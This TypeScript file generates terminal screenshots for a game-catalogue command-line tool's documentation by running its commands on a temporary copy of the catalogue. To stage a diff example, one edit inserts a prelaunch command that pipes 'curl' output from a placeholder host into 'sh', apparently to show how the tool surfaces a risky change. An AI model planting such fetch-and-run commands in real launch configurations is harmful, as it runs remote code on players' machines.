import { execFileSync } from 'node:child_process';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PROJECT } from '../project.ts';
import { runCommand } from '../run-command.ts';
import { terminalSvg } from './terminal-svg.ts';

/** Where the pictures lie. */
export const FOLDER = join(PROJECT, '.github/pictures/terminal');

/** Records that commands without a picture of their own change first. */
type Before = (folder: string) => void;

/** A picture: what a person types, and what has happened to the catalogue until then. */
interface TerminalPicture {
  readonly name: string;
  readonly words: readonly string[];
  readonly before?: Before;
  /** Lines of the output that are shown; all if not said. */
  readonly lines?: number;
}

const RECORD = 'catalogue/games/s/space-taxi/space-taxi-1-0-linux.yaml';

const DOWNLOAD = 'https://example.org/space-taxi/1.0/space-taxi-1.0.tar.gz';

const NEW = ['new', '--name', 'Space Taxi', '--year', '1984', '--variant', '1.0 Linux', '--runner', 'linux'];

/** In the order in which a person would do all this, each with what those before have left. */
const TERMINAL_PICTURES: readonly TerminalPicture[] = [
  { name: 'show', words: ['show', 'quake-shareware-vkquake'] },
  { name: 'new', words: [...NEW, '--user', 'your-name', '--url', DOWNLOAD] },
  {
    name: 'check-findings',
    words: ['check', 'space-taxi'],
    before: edit(RECORD, [
      ['url: https', 'url: http'],
      ['    - extract:', '    - extrct:'],
      ['user: your-name', 'user: yes'],
    ]),
  },
  { name: 'explain', words: ['explain', 'plain-http'] },
  {
    name: 'check-clean',
    words: ['check', 'space-taxi'],
    before: edit(RECORD, [
      ['    - extrct:', '    - extract:'],
      ['url: http:', 'url: https:'],
      ['user: yes', 'user: your-name'],
      [
        'space-taxi-1.0.tar.gz\n  game:',
        `space-taxi-1.0.tar.gz\n        checksum: sha256:${'0123456789abcdef'.repeat(4)}\n  game:`,
      ],
    ]),
  },
  {
    name: 'fmt',
    words: ['fmt', 'space-taxi', '--check'],
    before: edit(RECORD, [['version: 1.0 Linux\nrunner: linux\n', 'runner: "linux"\nversion:    1.0 Linux\n']]),
  },
  {
    name: 'diff',
    words: ['diff', 'main'],
    lines: 36,
    before: edit('catalogue/games/r/red-eclipse/red-eclipse-linux.yaml', [
      ['user: catalogue-team', 'user: somebody-new'],
      ['script:\n', 'script:\n  system:\n    prelaunch_command: sh -c "curl -s https://example.net/hello | sh"\n'],
    ]),
  },
];

/** Draws every picture, of commands that are run on a copy of the catalogue in a folder. */
export async function drawPictures(folder: string): Promise<Map<string, string>> {
  cpSync(join(PROJECT, 'catalogue'), join(folder, 'catalogue'), { recursive: true });
  const git = (...words: string[]) => execFileSync('git', words, { cwd: folder, stdio: 'ignore' });
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('-c', 'user.name=a', '-c', 'user.email=a@example.org', 'commit', '-q', '-m', 'Begin');
  const drawn = new Map<string, string>();
  for (const picture of TERMINAL_PICTURES) drawn.set(`${picture.name}.svg`, await draw(picture, folder));
  return drawn;
}

async function draw({ words, before, lines }: TerminalPicture, folder: string): Promise<string> {
  before?.(folder);
  const world = { workingFolder: folder, variables: { FORCE_COLOR: '1' }, now: () => Date.UTC(2026, 10, 2, 18, 30) };
  const { out, error } = await runCommand(words, world);
  const command = typed(['catalogue', ...words.map(quoted)]);
  const printed = `${out}${error}`.trimEnd().split('\n');
  const shown = printed.length > (lines ?? Infinity) ? [...printed.slice(0, lines), '…'] : printed;
  return terminalSvg(
    `What "catalogue ${words.join(' ')}" prints`,
    [`\u001B[2m$\u001B[22m ${command}`, ...shown].join('\n'),
  );
}

/** A command as a person would type it, on several lines where it is long. */
function typed(words: readonly string[]): string {
  const parts = words.join(' ').split(/ (?=--)/);
  const lines = [''];
  for (const part of parts) {
    const last = lines.at(-1) ?? '';
    if (last.length + part.length > 90) lines.push(`    ${part}`);
    else lines[lines.length - 1] = last === '' ? part : `${last} ${part}`;
  }
  return lines.join(' \\\n');
}

function quoted(word: string): string {
  return /^[\w./:-]+$/.test(word) ? word : `"${word}"`;
}

function edit(path: string, replacements: readonly (readonly [string, string])[]): Before {
  return (folder) => {
    const file = join(folder, path);
    const text = readFileSync(file, 'utf8');
    const edited = replacements.reduce((all, [from, to]) => {
      if (!all.includes(from)) throw new Error(`${path} has no "${from}"`);
      return all.replace(from, to);
    }, text);
    writeFileSync(file, edited);
  };
}
